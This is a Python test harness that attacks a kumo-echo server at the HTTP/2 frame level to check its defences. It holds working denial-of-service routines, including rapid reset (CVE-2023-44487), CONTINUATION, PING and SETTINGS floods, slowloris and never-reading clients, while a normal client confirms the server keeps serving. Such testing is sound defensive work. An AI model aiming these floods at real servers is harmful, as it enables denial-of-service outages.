#!/usr/bin/python3
"""Frame-level HTTP/2 abuse tests for kumo-echo.

Usage: h2_abuse.py HOST PORT [SERVER_PID]

Each attack runs on its own connection, in a thread, while a second,
well-behaved h2c connection keeps calling the Connect unary
kumo.test.v1.EchoService/Echo before, during and after the attack: an attack
passes only if the server defends itself AND keeps serving everybody else.
With SERVER_PID, the server's VmRSS is sampled during every case and its
growth must stay under 64 MiB (the never-reading client case needs it).

ABUSE_CASES=word,word runs only the cases whose names contain one of the
words; ABUSE_SLOWLORIS_S changes the slowloris bound (default 15 s).

Output is TAP lines (no plan line: tests/abuse/run appends its own case):
`ok - abuse: <case>` / `not ok - abuse: <case> (<why>)`,
diagnostics as `# ...`, then `N passed, M failed`; exit 1 on any failure.

Abusive frames are built by hand (the point is to send what a library would
refuse to); the well-behaved client is python3-h2. Run with /usr/bin/python3
(Debian's interpreter, which has h2/hpack).
"""

import os
import random
import select
import signal
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 5, 6, 7, 8, 9
FLAG_END_STREAM = 0x1
FLAG_ACK = 0x1
FLAG_END_HEADERS = 0x4
FLAG_PADDED = 0x8
FLAG_PRIORITY = 0x20
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
ERR_CANCEL = 0x8
MAX_FRAME = 16384  # the default SETTINGS_MAX_FRAME_SIZE: always allowed
MIB = 1024 * 1024

ECHO_PATH = b"/kumo.test.v1.EchoService/Echo"
BYTES_PATH = b"/kumo.test.v1.EchoService/Bytes"
# EchoRequest{message: "hello"}
ECHO_BODY = b"\x0a\x05hello"
# BytesRequest{size: 1048576}
BYTES_BODY = b"\x08\x80\x80\x40"

RSS_LIMIT_KIB = 64 * 1024
HEALTHY_TIMEOUT = 5.0  # one well-behaved request must finish within this
HEALTHY_INTERVAL = 0.05  # pause between well-behaved requests during an attack
SLOWLORIS_S = float(os.environ.get("ABUSE_SLOWLORIS_S", "15"))
TOTAL_BUDGET_S = 88.0
SERVER_PID = None  # set from argv: lets an attack wait for the server's RSS to settle


# ---- frame building ---------------------------------------------------------


def frame(ftype, flags, sid, payload=b""):
    """One HTTP/2 frame: 9-byte header + payload."""
    return (
        len(payload).to_bytes(3, "big")
        + bytes([ftype, flags])
        + struct.pack(">I", sid & 0x7FFFFFFF)
        + payload
    )


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 5.1 integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def header_block(headers):
    """Literal-without-indexing, new-name fields: no dynamic-table state, so a
    block can be reused on any stream and split anywhere."""
    out = []
    for name, value in headers:
        out.append(b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value)
    return b"".join(out)


def settings_payload(params):
    return b"".join(struct.pack(">HI", k, v) for k, v in params)


def request_headers(authority, path, body_len, extra=()):
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":authority", authority),
        (b":path", path),
        (b"content-type", b"application/proto"),
        (b"connect-protocol-version", b"1"),
        (b"content-length", b"%d" % body_len),
    ] + list(extra)


def headers_frames(sid, block, end_stream):
    """HEADERS + CONTINUATIONs carrying a complete block."""
    chunks = [block[i : i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    frames = []
    for i, chunk in enumerate(chunks):
        flags = FLAG_END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            frames.append(frame(HEADERS, flags | (FLAG_END_STREAM if end_stream else 0), sid, chunk))
        else:
            frames.append(frame(CONTINUATION, flags, sid, chunk))
    return b"".join(frames)


# ---- server process ---------------------------------------------------------


def proc_status(pid, field):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith(field + ":"):
                    return line.split(":", 1)[1].strip()
    except OSError:
        return None
    return None


def rss_kib(pid):
    value = proc_status(pid, "VmRSS")
    return int(value.split()[0]) if value else None


def server_alive(pid):
    state = proc_status(pid, "State")
    return state is not None and not state.startswith(("Z", "X"))


# ---- the abusive side: a raw connection -------------------------------------


class Closed(Exception):
    pass


class RawConn:
    """A socket speaking hand-made frames; parses what the server sends only
    when asked to (poll/wait), so a 'never reading' client is just one that
    does not call them."""

    def __init__(self, host, port, timeout=5.0, decode=False):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(timeout)
        self.authority = b"%s:%d" % (host.encode(), port)
        self.buf = bytearray()
        self.closed = None  # why the server ended the connection
        self.goaway = None  # (error code, last stream id, debug data)
        self.rst = {}
        self.status = {}
        self.server_settings = None
        self.rx_bytes = 0
        self.decode = decode
        self.decoder = hpack.Decoder(max_header_list_size=1 << 24)
        self.block = bytearray()
        self.block_sid = 0
        self.pending_acks = 0
        self.auto_ack = True  # ACK the server's SETTINGS when we read them

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def send(self, data):
        """Send all of data; raise Closed if the server closed/reset, let
        socket.timeout through (the server stopped reading)."""
        if self.closed:
            raise Closed(self.closed)
        try:
            self.sock.sendall(data)
        except socket.timeout:
            raise
        except OSError as e:
            self.closed = "send failed: %s" % (e.strerror or e.__class__.__name__)
            raise Closed(self.closed)

    def poll(self, timeout=0.0):
        """Read and parse whatever arrives within timeout."""
        end = time.monotonic() + timeout
        while not self.closed:
            remaining = max(0.0, end - time.monotonic())
            ready, _, _ = select.select([self.sock], [], [], remaining)
            if not ready:
                return
            try:
                data = self.sock.recv(1 << 20)
            except socket.timeout:
                return
            except OSError as e:
                self.closed = "reset (%s)" % (e.strerror or e.__class__.__name__)
                return
            if not data:
                self.closed = "EOF"
                return
            self.rx_bytes += len(data)
            self.buf += data
            self.parse()
            if self.pending_acks and self.auto_ack:
                acks, self.pending_acks = self.pending_acks, 0
                try:
                    self.send(frame(SETTINGS, FLAG_ACK, 0) * acks)
                except (Closed, socket.timeout):
                    return

    def wait(self, predicate, timeout):
        """Poll until predicate() holds, the connection closes, or timeout."""
        end = time.monotonic() + timeout
        while not predicate() and not self.closed:
            remaining = end - time.monotonic()
            if remaining <= 0:
                break
            self.poll(min(remaining, 0.1))
        return predicate()

    def parse(self):
        buf = self.buf
        off = 0
        while len(buf) - off >= 9:
            length = int.from_bytes(buf[off : off + 3], "big")
            if len(buf) - off < 9 + length:
                break
            ftype, flags = buf[off + 3], buf[off + 4]
            sid = int.from_bytes(buf[off + 5 : off + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[off + 9 : off + 9 + length])
            off += 9 + length
            self.on_frame(ftype, flags, sid, payload)
        del buf[:off]

    def on_frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & FLAG_ACK:
            params = {}
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack(">HI", payload[i : i + 6])
                params[k] = v
            if self.server_settings is None:
                self.server_settings = params
            else:
                self.server_settings.update(params)
            self.pending_acks += 1
        elif ftype == GOAWAY and len(payload) >= 8 and self.goaway is None:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (code, last & 0x7FFFFFFF, payload[8:200])
        elif ftype == RST_STREAM and len(payload) == 4:
            self.rst[sid] = struct.unpack(">I", payload)[0]
        elif ftype in (HEADERS, CONTINUATION) and self.decode:
            if ftype == HEADERS:
                pad = 0
                if flags & FLAG_PADDED:
                    pad = payload[0]
                    payload = payload[1:]
                if flags & FLAG_PRIORITY:
                    payload = payload[5:]
                if pad:
                    payload = payload[:-pad]
                self.block = bytearray(payload)
                self.block_sid = sid
            else:
                self.block += payload
            if flags & FLAG_END_HEADERS:
                try:
                    for name, value in self.decoder.decode(bytes(self.block), raw=True):
                        if name == b":status":
                            self.status[self.block_sid] = int(value)
                except Exception as e:  # a broken server block is a finding, not a crash
                    self.status.setdefault(self.block_sid, "undecodable (%s)" % e)

    def handshake(self, params=((SETTINGS_ENABLE_PUSH, 0),), timeout=3.0):
        """Preface + our SETTINGS, wait for the server's SETTINGS, ACK them."""
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings_payload(params)))
        if not self.wait(lambda: self.server_settings is not None, timeout):
            raise Closed("no server SETTINGS within %.0f s (%s)" % (timeout, self.closed or "open"))

    def ended(self):
        return self.goaway is not None or self.closed is not None

    def describe_end(self):
        parts = []
        if self.goaway:
            code, last, debug = self.goaway
            parts.append("GOAWAY code=%d last_stream=%d%s" % (code, last, (" debug=%r" % debug) if debug else ""))
        if self.closed:
            parts.append("closed: %s" % self.closed)
        return ", ".join(parts) or "still open"


# ---- the well-behaved side ---------------------------------------------------


class Healthy:
    """One long-lived h2c connection making Connect unary Echo calls."""

    def __init__(self, host, port):
        self.host, self.port = host, port
        self.authority = b"%s:%d" % (host.encode(), port)
        self.sock = None
        self.requests = 0
        self.max_latency = 0.0
        self.connect()

    def connect(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass
        self.sock = socket.create_connection((self.host, self.port), timeout=HEALTHY_TIMEOUT)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding=None)
        )
        self.conn.initiate_connection()
        self.sock.sendall(self.conn.data_to_send())

    def check(self):
        """One Echo call; returns None if it succeeded, else why not. After a
        broken connection, reconnects so one failure does not hide the next
        check's result."""
        start = time.monotonic()
        try:
            why = self.call()
        except (OSError, h2.exceptions.H2Error) as e:
            why = "%s: %s" % (e.__class__.__name__, e)
        latency = time.monotonic() - start
        self.requests += 1
        self.max_latency = max(self.max_latency, latency)
        if why:
            try:
                self.connect()
            except OSError as e:
                why += "; reconnect failed: %s" % e
        return why

    def call(self):
        deadline = time.monotonic() + HEALTHY_TIMEOUT
        sid = self.conn.get_next_available_stream_id()
        self.conn.send_headers(sid, request_headers(self.authority, ECHO_PATH, len(ECHO_BODY)))
        self.conn.send_data(sid, ECHO_BODY, end_stream=True)
        self.sock.sendall(self.conn.data_to_send())
        status, body = None, b""
        while True:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return "no response within %.0f s" % HEALTHY_TIMEOUT
            ready, _, _ = select.select([self.sock], [], [], remaining)
            if not ready:
                continue
            data = self.sock.recv(65536)
            if not data:
                return "connection closed by server"
            for event in self.conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived) and event.stream_id == sid:
                    status = dict(event.headers).get(b":status")
                elif isinstance(event, h2.events.DataReceived):
                    self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    if event.stream_id == sid:
                        body += event.data
                elif isinstance(event, h2.events.StreamReset) and event.stream_id == sid:
                    return "stream reset with code %s" % event.error_code
                elif isinstance(event, h2.events.ConnectionTerminated):
                    return "GOAWAY code=%s on the well-behaved connection" % event.error_code
                elif isinstance(event, h2.events.StreamEnded) and event.stream_id == sid:
                    self.sock.sendall(self.conn.data_to_send())
                    if status != b"200":
                        return "HTTP status %s" % (status.decode() if status else "missing")
                    if b"hello" not in body:
                        return "200 without the echoed message (body %r)" % body[:64]
                    return None
            self.sock.sendall(self.conn.data_to_send())


# ---- the attacks -------------------------------------------------------------
# Each takes (host, port) and returns (ok, detail). Exceptions mean "not ok".


def attack_rapid_reset(host, port):
    """CVE-2023-44487: HEADERS (a complete request) then RST_STREAM, again and
    again. The server must GOAWAY/close instead of serving forever."""
    limit, batch, send_budget = 20000, 100, 8.0
    c = RawConn(host, port)
    try:
        c.handshake()
        block = header_block(request_headers(c.authority, ECHO_PATH, 0))
        sid, sent = 1, 0
        start = time.monotonic()
        try:
            while sent < limit and time.monotonic() - start < send_budget:
                chunk = b"".join(
                    frame(HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, s, block)
                    + frame(RST_STREAM, 0, s, struct.pack(">I", ERR_CANCEL))
                    for s in range(sid, sid + 2 * batch, 2)
                )
                c.send(chunk)
                sid += 2 * batch
                sent += batch
                c.poll(0)  # drain responses so our receive buffer never throttles the server
                if c.ended():
                    break
        except Closed:
            pass
        except socket.timeout:
            c.wait(c.ended, 4.0)
            if not c.ended():
                return False, "server stopped reading after %d HEADERS+RST_STREAM pairs but neither sent GOAWAY nor closed" % sent
        c.wait(c.ended, 4.0)
        if c.ended():
            return True, "%d pairs sent; %s" % (sent, c.describe_end())
        return False, "served %d HEADERS+RST_STREAM pairs in %.1f s without GOAWAY or close" % (
            sent,
            time.monotonic() - start,
        )
    finally:
        c.close()


def attack_continuation_flood(host, port):
    """Endless CONTINUATION frames without END_HEADERS (CVE-2024-27316 class):
    the connection must be closed, memory bounded."""
    budget_bytes, budget_s = 32 * MIB, 10.0
    c = RawConn(host, port)
    try:
        c.handshake()
        c.send(frame(HEADERS, 0, 1, header_block(request_headers(c.authority, ECHO_PATH, 0))))
        field = header_block([(b"x-f", b"0")])
        cont = frame(CONTINUATION, 0, 1, field * (MAX_FRAME // len(field)))
        chunk = cont * 16
        sent = 0
        start = time.monotonic()
        try:
            while sent < budget_bytes and time.monotonic() - start < budget_s:
                c.send(chunk)
                sent += len(chunk)
                c.poll(0)
                if c.ended():
                    break
        except Closed:
            pass
        except socket.timeout:
            pass  # the server stopped reading: it still has to close
        frames = sent // len(cont)
        if c.goaway and not c.closed:
            c.wait(lambda: c.closed is not None, 3.0)
        else:
            c.wait(c.ended, 3.0)
            if c.goaway and not c.closed:
                c.wait(lambda: c.closed is not None, 3.0)
        if c.closed:
            return True, "closed after ~%d CONTINUATION frames (%.1f MiB); %s" % (frames, sent / MIB, c.describe_end())
        if c.goaway:
            return False, "GOAWAY after ~%d CONTINUATION frames but the connection was left open (%s)" % (
                frames,
                c.describe_end(),
            )
        return False, "connection still open after %d CONTINUATION frames (%.1f MiB) without END_HEADERS" % (
            frames,
            sent / MIB,
        )
    finally:
        c.close()


def control_flood(host, port, unit, name):
    """Send control frames that each demand an ACK, never read the ACKs.
    Acceptable: the server closes, or stops reading (backpressure) so its
    memory stays bounded (checked by the runner). Not acceptable: it keeps
    swallowing them. The kernel can hold only a few MiB of unread ACKs (our
    receive buffer does not grow while we do not read, the server's send
    buffer is capped by net.ipv4.tcp_wmem), so a server that has taken
    32 MiB of such frames is keeping the ACKs, or something, in user space."""
    budget_bytes, budget_s = 32 * MIB, 8.0
    c = RawConn(host, port, timeout=3.0)
    try:
        c.handshake()
        chunk = unit * (65536 // len(unit))
        sent = 0
        start = time.monotonic()
        try:
            while sent < budget_bytes and time.monotonic() - start < budget_s:
                c.send(chunk)
                sent += len(chunk)
        except Closed:
            return True, "closed after %d %s frames (%.1f MiB): %s" % (sent // len(unit), name, sent / MIB, c.closed)
        except socket.timeout:
            return True, "server applied backpressure after %d %s frames (%.1f MiB)" % (
                sent // len(unit),
                name,
                sent / MIB,
            )
        if sent < budget_bytes:
            # Slow but still reading: only the memory check can judge.
            return True, "server still reading after %.0f s, %d %s frames (%.1f MiB) taken: judged by RSS" % (
                budget_s,
                sent // len(unit),
                name,
                sent / MIB,
            )
        return False, "server took %d %s frames (%.0f MiB) from a client that reads nothing, without closing or pushing back: ACKs buffered without bound" % (
            sent // len(unit),
            name,
            sent / MIB,
        )
    finally:
        c.close()


def attack_ping_flood(host, port):
    return control_flood(host, port, frame(PING, 0, 0, b"abusive!"), "PING")


def attack_settings_flood(host, port):
    unit = frame(SETTINGS, 0, 0, settings_payload([(SETTINGS_MAX_CONCURRENT_STREAMS, 100)]))
    return control_flood(host, port, unit, "SETTINGS")


def attack_oversized_headers(host, port):
    """A complete request whose header list is ~100 KiB (> 64 KiB)."""
    c = RawConn(host, port, decode=True)
    try:
        c.handshake()
        extra = [(b"x-big-%03d" % i, b"v" * 1000) for i in range(100)]
        block = header_block(request_headers(c.authority, ECHO_PATH, 0, extra))
        try:
            c.send(headers_frames(1, block, end_stream=True))
        except Closed:
            pass
        except socket.timeout:
            return False, "server stopped reading a %d-byte header block" % len(block)
        c.wait(lambda: 1 in c.status or 1 in c.rst or c.ended(), 5.0)
        if 1 in c.status:
            if c.status[1] == 431:
                return True, "431 on the stream"
            return False, "answered a %d KiB header list with status %s (want 431/RST_STREAM/GOAWAY)" % (
                len(block) // 1024,
                c.status[1],
            )
        if 1 in c.rst:
            return True, "RST_STREAM code=%d" % c.rst[1]
        if c.ended():
            return True, c.describe_end()
        return False, "no answer within 5 s to a %d KiB header list" % (len(block) // 1024)
    finally:
        c.close()


def settle(default_s):
    if not SERVER_PID:
        time.sleep(default_s)
        return
    start = time.monotonic()
    history = []
    while time.monotonic() - start < 8.0:
        history.append((time.monotonic(), rss_kib(SERVER_PID) or 0))
        old = [v for t, v in history if t <= history[-1][0] - 1.5]
        if time.monotonic() - start >= 3.0 and old and history[-1][1] - old[-1] < 1024:
            return
        time.sleep(0.1)


def attack_never_reads(host, port):
    """Open the flow-control windows wide, ask for many 1 MiB responses, never
    read: the server must not buffer them all (RSS checked by the runner)."""
    requests = 128
    c = RawConn(host, port, timeout=3.0)
    try:
        c.handshake(params=((SETTINGS_ENABLE_PUSH, 0), (SETTINGS_INITIAL_WINDOW_SIZE, 0x7FFFFFFF)))
        c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535)))
        limit = c.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS)
        block = header_block(request_headers(c.authority, BYTES_PATH, len(BYTES_BODY)))
        sent = 0
        try:
            for i in range(requests):
                sid = 1 + 2 * i
                c.send(frame(HEADERS, FLAG_END_HEADERS, sid, block) + frame(DATA, FLAG_END_STREAM, sid, BYTES_BODY))
                sent += 1
        except Closed:
            return True, "closed after %d requests: %s" % (sent, c.closed)
        except socket.timeout:
            pass
        # Give the server time to produce (and, if it is broken, buffer) it
        # all: until its RSS has been flat for 1.5 s (3 s minimum, 8 s at
        # most), or 4 s without a pid.
        settle(4.0)
        return True, "%d x 1 MiB requested, nothing read (server max concurrent streams %s)" % (
            sent,
            limit if limit is not None else "unlimited",
        )
    finally:
        c.close()


def attack_slowloris(host, port):
    """The client preface at 1 byte per second: the server must drop the
    connection within its handshake timeout (bounded here to SLOWLORIS_S)."""
    c = RawConn(host, port)
    c.auto_ack = False  # anything but the next preface byte would end it early
    try:
        start = time.monotonic()
        i = 0
        while time.monotonic() - start < SLOWLORIS_S:
            if i < len(PREFACE):
                try:
                    c.send(PREFACE[i : i + 1])
                except (Closed, socket.timeout):
                    break
                i += 1
            # Reading discards what the server says (its SETTINGS) and notices the close.
            c.wait(lambda: False, 1.0)
            if c.closed:
                break
        elapsed = time.monotonic() - start
        if c.closed:
            return True, "closed after %.1f s, %d preface bytes (%s)" % (elapsed, i, c.closed)
        return False, "connection still open after %.0f s of a 1 byte/s preface (%d bytes sent)" % (elapsed, i)
    finally:
        c.close()


def attack_invalid_preface(host, port):
    """Garbage instead of the client preface: close promptly."""
    rng = random.Random(7)
    variants = [
        ("random bytes", b"\x00\xff" + bytes(rng.randrange(256) for _ in range(1024))),
        ("corrupted preface", b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + b"\x00" * 64),
        ("HTTP/1.1 request", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("preface then garbage frame", PREFACE + b"\xff" * 64),
    ]
    notes = []
    for name, data in variants:
        c = RawConn(host, port)
        c.auto_ack = False  # the garbage alone must get us closed
        try:
            try:
                c.send(data)
            except Closed:
                pass
            c.wait(lambda: c.closed is not None, 5.0)
            if not c.closed:
                return False, "%s: connection still open 5 s later" % name
            notes.append("%s: %s" % (name, c.describe_end()))
        finally:
            c.close()
    return True, "; ".join(notes)


CASES = [
    ("rapid reset", attack_rapid_reset, 25.0),
    ("CONTINUATION flood", attack_continuation_flood, 20.0),
    ("PING flood", attack_ping_flood, 20.0),
    ("SETTINGS flood", attack_settings_flood, 20.0),
    ("oversized header list", attack_oversized_headers, 15.0),
    ("never-reading client", attack_never_reads, 20.0),
    ("slowloris", attack_slowloris, SLOWLORIS_S + 5.0),
    ("invalid preface", attack_invalid_preface, 25.0),
]


# ---- runner -------------------------------------------------------------------


class Sampler(threading.Thread):
    """Peak VmRSS of the server while a case runs."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.peak = rss_kib(pid) or 0
        self.stop = threading.Event()

    def run(self):
        while not self.stop.wait(0.05):
            value = rss_kib(self.pid)
            if value:
                self.peak = max(self.peak, value)


def run_case(healthy, host, port, pid, name, attack, limit):
    """Returns (ok, why, diagnostics)."""
    problems, diag = [], []
    why = healthy.check()
    if why:
        problems.append("well-behaved call before the attack: " + why)
    base = rss_kib(pid) if pid else None
    sampler = None
    if pid:
        sampler = Sampler(pid)
        sampler.start()

    result = {}

    def runner():
        try:
            result["r"] = attack(host, port)
        except Exception as e:  # an attack that cannot even run is a failure to report
            result["r"] = (False, "attack error %s: %s" % (e.__class__.__name__, e))

    thread = threading.Thread(target=runner, daemon=True)
    start = time.monotonic()
    healthy.requests, healthy.max_latency = 0, 0.0
    thread.start()
    during_failures = []
    checks = 0
    while True:
        if not thread.is_alive() and checks > 0:
            break
        if time.monotonic() - start > limit:
            break
        why = healthy.check()
        checks += 1
        if why:
            during_failures.append(why)
        time.sleep(HEALTHY_INTERVAL)
    thread.join(max(0.0, limit - (time.monotonic() - start)))
    if thread.is_alive():
        problems.append("attack still running after %.0f s" % limit)
    if during_failures:
        problems.append(
            "well-behaved calls during the attack: %d of %d failed (first: %s)"
            % (len(during_failures), checks, during_failures[0])
        )
    why = healthy.check()
    if why:
        problems.append("well-behaved call after the attack: " + why)
    diag.append(
        "%d well-behaved calls during the attack, slowest %.0f ms" % (checks, healthy.max_latency * 1000)
    )

    if sampler:
        sampler.stop.set()
        sampler.join()
        if not server_alive(pid):
            problems.append("server process %d is gone" % pid)
        elif base is not None:
            growth = sampler.peak - base
            diag.append("server VmRSS %d KiB before, peak %d KiB (+%d KiB)" % (base, sampler.peak, growth))
            if growth >= RSS_LIMIT_KIB:
                problems.append("server RSS grew by %.1f MiB (limit 64 MiB)" % (growth / 1024))

    ok, detail = result.get("r", (False, "no result"))
    diag.insert(0, detail)
    if not ok:
        problems.insert(0, detail)
    return not problems, "; ".join(problems), diag


def main():
    if len(sys.argv) not in (3, 4):
        sys.stderr.write("usage: %s HOST PORT [SERVER_PID]\n" % sys.argv[0])
        return 2
    host, port = sys.argv[1], int(sys.argv[2])
    pid = int(sys.argv[3]) if len(sys.argv) == 4 else None
    global SERVER_PID
    SERVER_PID = pid

    def bail(signum, frame_):
        print("Bail out! whole run exceeded %.0f s" % TOTAL_BUDGET_S, flush=True)
        os._exit(1)

    signal.signal(signal.SIGALRM, bail)
    signal.alarm(int(TOTAL_BUDGET_S))
    t0 = time.monotonic()
    try:
        healthy = Healthy(host, port)
    except OSError as e:
        print("Bail out! cannot connect to %s:%d: %s" % (host, port, e), flush=True)
        print("0 passed, 1 failed", flush=True)
        return 1
    passed = failed = 0
    only = [w.strip().lower() for w in os.environ.get("ABUSE_CASES", "").split(",") if w.strip()]
    for name, attack, limit in CASES:
        if only and not any(w in name.lower() for w in only):
            print("ok - abuse: %s # SKIP not in ABUSE_CASES" % name, flush=True)
            passed += 1
            continue
        started = time.monotonic()
        if name == "never-reading client" and not pid:
            print("ok - abuse: %s # SKIP no server pid given, RSS not measured" % name, flush=True)
            passed += 1
            continue
        ok, why, diag = run_case(healthy, host, port, pid, name, attack, limit)
        if ok:
            passed += 1
            print("ok - abuse: %s" % name, flush=True)
        else:
            failed += 1
            print("not ok - abuse: %s (%s)" % (name, why), flush=True)
        for line in diag:
            print("#   %s" % line, flush=True)
        print("#   %.1f s" % (time.monotonic() - started), flush=True)
    print("# total %.1f s" % (time.monotonic() - t0), flush=True)
    print("%d passed, %d failed" % (passed, failed), flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
